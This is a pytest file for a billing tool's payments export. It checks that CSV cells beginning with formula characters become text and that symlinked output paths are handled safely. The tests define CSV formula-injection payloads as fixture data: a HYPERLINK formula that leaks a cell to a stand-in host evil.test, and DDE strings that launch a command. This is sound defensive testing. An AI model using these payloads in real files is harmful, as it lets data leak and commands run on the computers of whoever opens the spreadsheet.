"""``payments export`` as finance opens it (issue 25, items 2 and 5): a hostile account name, id or
invoice number is text in the spreadsheet, never a formula; ``--output`` through a symbolic link
writes the link's target and keeps the link, also when the target is on another filesystem.

Real parts: the database (``tests/support/payment_rows.py``), the command run as a process.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from billing_core.db.database import Database
from billing_core.payments.export import PaymentExport
from bot.cli.actions.export import write_csv
from tests.support import cli
from tests.support.payment_rows import START, add_account, add_payment

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.test/?leak="&A1,"Click")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def run_cli(*args: str, database_url: str) -> subprocess.CompletedProcess[str]:
    """The command in this process (``tests.support.cli``)."""
    return cli.run_cli(*args, env=cli.cli_env(("SLACK_", "STRIPE_", "BILLING_"), DATABASE_URL=database_url))


@pytest.fixture
def hostile(db: Database) -> Database:
    for index, value in enumerate(HOSTILE.values()):
        account = add_account(db, f"{value}{index}", value)
        add_payment(db, account, created_at=START, invoices=(value,), intent=f"pi_{index}", amount_minor=5 + index)
    return db


def _cells(db: Database) -> list[dict[str, str]]:
    out = io.StringIO()
    write_csv(PaymentExport(db).rows(), out)
    return list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))


def test_account_names_ids_and_invoice_numbers_that_start_a_formula_are_text_in_the_csv(hostile: Database) -> None:
    rows = _cells(hostile)
    assert len(rows) == len(HOSTILE)
    for row, value in zip(rows, HOSTILE.values(), strict=True):
        written = value.replace("\r", "\n")  # a lone CR would have started a new row (one row per payment)
        assert row["account_name"] == "'" + written
        assert row["account_id"].startswith("'" + written)
        assert row["invoices"] == "'" + written
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) or cell.lstrip("-").isdigit()


def test_amounts_and_ordinary_cells_are_unchanged_and_json_keeps_the_values_as_they_are(hostile: Database) -> None:
    rows = _cells(hostile)
    assert [int(row["amount"]) for row in rows] == [5 + i for i in range(len(HOSTILE))]  # numbers stay numbers
    assert {row["currency"] for row in rows} == {"usd"} and rows[0]["created_at"] == "2026-11-01T12:00:00Z"
    exported = [row.as_dict() for row in PaymentExport(hostile).rows()]
    assert [row["account_name"] for row in exported] == list(HOSTILE.values())


@pytest.fixture
def other_filesystem() -> Iterator[Path]:
    """A directory on another filesystem than the test's tmp_path (/dev/shm is a tmpfs here)."""
    with tempfile.TemporaryDirectory(dir="/dev/shm" if Path("/dev/shm").is_dir() else None) as name:
        yield Path(name)


@pytest.mark.parametrize("where", ["same filesystem", "other filesystem"])
def test_an_output_through_a_symlink_writes_its_target_and_keeps_the_link(
    hostile: Database, database_url: str, tmp_path: Path, other_filesystem: Path, where: str
) -> None:
    target_dir = tmp_path / "books" if where == "same filesystem" else other_filesystem
    target_dir.mkdir(exist_ok=True)
    target = target_dir / "payments.json"
    target.write_text("old")
    link = tmp_path / "latest.json"
    link.symlink_to(target)
    result = run_cli("payments", "export", "--format", "json", "--output", str(link), database_url=database_url)
    assert result.returncode == 0, result.stderr
    assert link.is_symlink() and link.resolve() == target.resolve()
    assert len(json.loads(target.read_text())) == len(HOSTILE)
    assert [p.name for p in target_dir.iterdir()] == ["payments.json"]  # no temp file left behind


def test_a_carriage_return_inside_a_name_cannot_start_a_row_of_its_own(db: Database) -> None:
    account = add_account(db, "acme", 'Acme\r=HYPERLINK("http://evil.test")\r\nCorp')
    add_payment(db, account, created_at=START, invoices=("INV-1",), intent="pi_1")
    [row] = _cells(db)
    assert row["account_name"] == 'Acme\n=HYPERLINK("http://evil.test")\nCorp' and row["invoices"] == "INV-1"
